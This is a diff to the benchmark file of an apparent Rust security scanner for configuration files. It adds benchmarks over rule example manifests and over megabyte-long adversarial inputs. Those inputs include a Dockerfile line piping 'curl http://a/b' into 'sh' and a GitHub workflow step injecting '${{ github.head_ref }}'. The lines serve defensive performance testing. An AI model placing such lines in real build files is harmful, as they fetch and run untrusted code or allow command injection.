@@ -8,13 +8,14 @@ use std::hint::black_box;
 use std::path::{Path, PathBuf};
 use std::sync::LazyLock;
 
-use divan::counter::BytesCount;
+use divan::counter::{BytesCount, ItemsCount};
 use divan::{Bencher, main as run_benches};
 use doorward::detect::secrets::runs::Runs;
+use doorward::examples::template::expand;
 use doorward::input::Loader;
 use doorward::input::walk::{WalkOptions, walk};
 use doorward::model::Confidence;
-use doorward::rules::RuleSet;
+use doorward::rules::{Matcher, RuleSet};
 use doorward::scan::{Document, Scanner};
 
 const SIZE: usize = 16 << 20;
@@ -81,6 +82,45 @@ fn whole_scan(bencher: Bencher<'_, '_>) {
             black_box(SCANNER.scan(&Document::new(path, text)));
         }
     });
+}
+
+/// The examples of all rules on facts, as paths and texts: small manifests of every kind.
+static MANIFESTS: LazyLock<Vec<(String, String)>> = LazyLock::new(|| {
+    let rules = RuleSet::built_in();
+    let rules = rules.iter().filter(|rule| matches!(rule.matcher, Matcher::Facts(_)));
+    let files = rules.flat_map(|rule| {
+        let examples = &rule.text().examples;
+        let examples = examples.bad.iter().chain(&examples.good);
+        examples.filter_map(|example| Some((example.file.clone(), expand(&rule.id, &example.code).ok()?)))
+    });
+    files.collect()
+});
+
+/// Manifests of a few lines each, by bytes and by files.
+#[divan::bench(sample_count = 10)]
+fn manifests(bencher: Bencher<'_, '_>) {
+    let size: usize = MANIFESTS.iter().map(|(_, text)| text.len()).sum();
+    bencher.counter(BytesCount::new(size)).counter(ItemsCount::new(MANIFESTS.len())).bench(|| {
+        for (path, text) in MANIFESTS.iter() {
+            black_box(SCANNER.scan(&Document::new(path, text)));
+        }
+    });
+}
+
+/// Manifests of a megabyte in which each part bears on each other, were they compared.
+#[divan::bench(sample_count = 5, args = [
+    ("compose.yaml", "services:\n", "  s:\n    image: redis\n    ports: ['6379:6379']\n"),
+    ("pods.yaml", "apiVersion: v1\nkind: List\nitems:\n", "- {apiVersion: v1, kind: Pod, spec: {containers: [{image: redis}]}}\n"),
+    ("Dockerfile", "FROM alpine\nRUN true", " && curl http://a/b | sh"),
+    ("Jenkinsfile", "node { a", ".a"),
+    (".github/workflows/a.yml", "on: push\njobs: {a: {steps: [{run: '", "${{ github.head_ref }}"),
+    ("a.sh", "", "$("),
+])]
+fn hostile_manifest(bencher: Bencher<'_, '_>, (path, start, piece): (&str, &str, &str)) {
+    let text = format!("{start}{}", piece.repeat((1 << 20) / piece.len()));
+    bencher
+        .counter(BytesCount::new(text.len()))
+        .bench(|| SCANNER.scan(&Document::new(path, black_box(&text))).below_confidence);
 }
 
 /// Lines of one megabyte that would make a careless expression slow.
